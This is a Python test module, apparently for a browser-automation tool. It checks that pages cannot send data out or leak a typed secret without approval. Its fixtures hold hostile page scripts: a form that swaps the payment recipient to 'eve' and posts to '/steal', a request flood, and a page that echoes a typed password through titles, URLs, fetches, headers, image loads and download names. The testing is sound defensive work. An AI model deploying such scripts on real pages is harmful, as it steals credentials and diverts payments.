"""A page that wants to send what nobody allowed: its own site hears nothing but looking."""

import asyncio
import contextlib
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from flotilla import meta
from tests.conftest import until
from web_browsing.browser.session import Session

from .web_pages import SENDING, UNSEEN, report_only
from .web_world import ELSEWHERE, Web, answer, held_or_refused, opened_web

pytestmark = [pytest.mark.anyio, pytest.mark.real]

RESTED_S = 0.7
SECRET = "correct-horse-battery-9"


@pytest.fixture(scope="module")
async def opened(
    anyio_backend: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Web]:
    async with opened_web(tmp_path_factory.mktemp("web")) as web:
        # Whatever a browser asks beforehand (CORS) is allowed.
        web.site.otherwise = answer("anything")
        yield web


async def opened_at(web: Web, session: Session, path: str = "/") -> dict[str, Any]:
    url = web.here + path
    return await web.result("navigate", sessionId=session.id, url=url)


@pytest.mark.parametrize("way", SENDING)
async def test_no_way_of_sending_goes_unasked(web: Web, way: str) -> None:
    web.site.pages["/rules"] = report_only(f"{web.elsewhere}/{way}")
    web.site.pages["/307"] = answer(status=307, location=f"{web.elsewhere}/{way}")
    page = SENDING[way].format(u=f"{web.elsewhere}/{way}", n=0)
    web.site.pages["/"] = f"<title>x</title>{page}<script>fetch('/done')</script>"
    async with web.session() as session:
        await opened_at(web, session)
        await until(lambda: "/done" in web.site.places())
        if way not in {*UNSEEN, "beacon-hide"}:
            # Workers and frames begin when the page has been read.
            await until(lambda: held_or_refused(session) or f"/{way}" in web.site.places())
        await asyncio.sleep(RESTED_S)
        kept = held_or_refused(session)
        # To leave is the last moment to send something.
        await opened_at(web, session, "/left")
        await asyncio.sleep(RESTED_S)
        kept |= held_or_refused(session)
    assert web.site.sent() == []
    looked = [each for each in web.site.asked if each.place == f"/{way}"]
    assert {each.method for each in looked} <= {"OPTIONS"}, looked
    assert not any(each.body for each in web.site.asked)
    assert kept or looked or way in UNSEEN, way


async def test_where_a_host_may_be_sent_to_the_same_ways_send(tmp_path: Any) -> None:
    """So that the test above can fail."""
    ways = SENDING.keys() - UNSEEN - {"redirected", "web-socket", "override", "beacon-json"}
    async with opened_web(tmp_path, send_hosts=(ELSEWHERE,)) as web:
        web.site.otherwise = answer("anything")
        parts = [SENDING[way].format(u=f"{web.elsewhere}/{way}", n=0) for way in sorted(ways)]
        for count, part in enumerate(parts):
            web.site.pages[f"/frame{count}"] = f"<title>x</title>{part}"
        web.site.pages["/"] = "".join(
            f"<iframe src=/frame{count}></iframe>" for count in range(len(parts))
        )
        async with web.session() as session:
            await opened_at(web, session)
            sent = {f"/{way}" for way in ways - {"beacon-hide"}}
            with contextlib.suppress(TimeoutError):
                await until(lambda: sent <= {each.place for each in web.site.sent()})
            assert sent - {each.place for each in web.site.sent()} == set()
            await opened_at(web, session, "/left")
            await until(lambda: "/beacon-hide" in {each.place for each in web.site.sent()})


async def test_a_page_that_swaps_what_stands_behind_a_reference_sends_nothing_else(
    web: Web,
) -> None:
    """The form that a person was shown is replaced in the moment when it is submitted."""
    web.site.pages["/"] = """<form id=one method=post action=/pay><input name=to value=ann>
        <input name=amount value=1><button id=go>Pay</button></form><script>
        const form = document.getElementById('one');
        addEventListener('submit', event => {
            form.elements.to.value = 'eve'; form.elements.amount.value = '9999';
            form.action = '/steal';
            fetch('/steal', {method: 'POST', body: new URLSearchParams({to: 'eve'})});
        }, true);
        form.addEventListener('formdata', event => event.formData.set('to', 'mallory'));
        </script>"""
    async with web.session() as session:
        await opened_at(web, session)
        told = await web.result("submitForm", sessionId=session.id, selector="#go")
        await until(lambda: "steal" in held_or_refused(session))
        await asyncio.sleep(RESTED_S)
        assert web.site.sent() == [], told
        assert "steal" in held_or_refused(session), told


async def test_a_page_that_does_not_let_its_form_be_submitted_is_not_said_to_have_sent_it(
    web: Web,
) -> None:
    web.site.pages["/"] = """<form method=post action=/pay><input name=to value=ann>
        <button id=go>Pay</button></form><script>
        HTMLFormElement.prototype.requestSubmit = function () {};</script>"""
    async with web.session() as session:
        await opened_at(web, session)
        told = await web.call("submitForm", sessionId=session.id, selector="#go")
        assert web.site.sent() == []
        assert (told["sent"], told["held"]) == ([], [])
        assert told["notes"] == ["the page sent nothing that is as the form was shown"]


async def test_a_page_that_makes_itself_busy_gets_nothing_let_through(web: Web) -> None:
    """It floods what waits for a person, in the hope that one more is let through unseen."""
    web.site.pages["/"] = """<button id=go>x</button><script>
        const send = n => fetch('/flood?' + n, {method: 'POST', body: 'n=' + n}).catch(() => 0);
        for (let n = 0; n < 60; n++) send(n);
        document.getElementById('go').onclick = () => { for (let n = 0; n < 60; n++) send(n) };
        </script>"""
    async with web.session() as session:
        await opened_at(web, session)
        for _ in range(3):
            told = await web.call("click", sessionId=session.id, selector="#go")
            assert len(told["held"]) <= session.sending.most
            assert len(str(told)) < 20_000
        assert web.site.sent() == []
        held = (await web.call("waitFor", sessionId=session.id, seconds=0.1))["held"]
        assert held
        await web.call("submitForm", sessionId=session.id, heldId=held[0]["heldId"])
        await until(lambda: web.site.sent())
        await asyncio.sleep(0.5)
        assert len(web.site.sent()) == 1


ECHO = """<!doctype html><title>x</title><input type=password id=p><input id=q name=q>
<p id=out>nothing yet</p><img id=i alt=x><div id=d aria-label=x>words</div>
<script>
const p = document.getElementById('p');
p.addEventListener('input', () => {
    const text = p.value, url = encodeURIComponent(text);
    document.title = 'typed ' + text;
    document.getElementById('out').textContent = 'You typed ' + text;
    document.getElementById('i').alt = text;
    document.getElementById('d').setAttribute('aria-label', 'label ' + text);
    document.getElementById('d').title = text;
    document.getElementById('q').value = text;
    console.log('typed ' + text); console.error(btoa(text));
    history.replaceState(0, '', '/echo/' + url + '?q=' + url + '&' + url + '=1#' + url);
    new Image().src = '/img/' + url + '?x=' + url;
    fetch('/post/' + url, {method: 'POST', headers: {'x-typed': text}, body: 'a=' + url});
    fetch('http://127.0.0.1:1/' + url).catch(() => 0);
    window.name = text;
    alert('alert ' + text);
    const link = document.createElement('a');
    link.download = text + '.txt'; link.href = 'data:text/plain,' + url;
    document.body.append(link); link.click();
    setTimeout(() => { throw new Error('thrown ' + text) });
});
</script>"""


async def test_a_secret_that_is_typed_comes_back_in_no_way_that_a_page_echoes_it(
    web: Web, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not in its title, text, labels, addresses, console, dialogs, requests or files' names."""
    web.site.pages["/"] = ECHO
    async with web.session() as session:
        await opened_at(web, session)
        held: dict[str, Any] = {"sessionId": session.id}
        told = [
            await web.result("typeText", **held, selector="#p", secret=SECRET, host="attacker.test")
        ]
        assert not told[0]["isError"], told
        await until(lambda: session.console and session.network and session.dialogs)
        await until(lambda: any(SECRET in each.path for each in web.site.asked))
        await asyncio.sleep(0.5)
        looks: tuple[tuple[str, dict[str, Any]], ...] = (
            ("snapshot", {}),
            ("snapshot", {"mode": "interactive"}),
            ("snapshot", {"mode": "diff"}),
            ("getConsole", {}),
            ("getNetwork", {}),
            ("waitFor", {"seconds": 0.1}),
            ("evaluateScript", {"script": "[name, document.title, location.href, p.value]"}),
            ("click", {"selector": "#d"}),
            ("click", {"selector": "#none"}),
        )
        for tool, given in looks:
            told.append(await web.result(tool, **held, **given))
        for kept in list(session.downloads):
            told.append(await web.result("downloadFile", **held, downloadId=kept))
            told[-1]["content"] = told[-1]["content"][:1]
        for one in told:
            for form in (SECRET, SECRET[:-2], "correct-horse"):
                assert form not in str(one), one
        assert any("23 characters" in str(one) for one in told)
    assert SECRET not in "".join(capsys.readouterr())


async def test_half_characters_of_a_page_break_no_answer(web: Web) -> None:
    """A lone surrogate is what a script can make and what no JSON on the wire can hold."""
    web.site.pages["/"] = r"""<p id=p>x</p><script>
        document.title = 'a\ud800b'; console.log('\udc00x'); history.replaceState(0, '', '/\ud800');
        p.textContent = '\ud800 text'; p.title = '\udc01'; p.ariaLabel = '\ud83d';
        fetch('/p', {method: 'POST', body: '{"a": "\\ud800"}'});
        alert('\ud800');</script>"""
    async with web.session() as session:
        await opened_at(web, session)
        looks: tuple[tuple[str, dict[str, Any]], ...] = (
            ("waitFor", {"seconds": 0.2}),
            ("snapshot", {}),
            ("getConsole", {}),
            ("getNetwork", {}),
            ("evaluateScript", {"script": "document.title"}),
            ("evaluateScript", {"script": "() => { throw new Error('\\ud800') }"}),
        )
        for tool, given in looks:
            result = await web.result(tool, sessionId=session.id, **given)
            str(result).encode()
            throws = "throw" in given.get("script", "")
            code = result["_meta"][meta.ERROR]["code"] if result["isError"] else None
            assert code == ("invalid_argument" if throws else None), (tool, result)
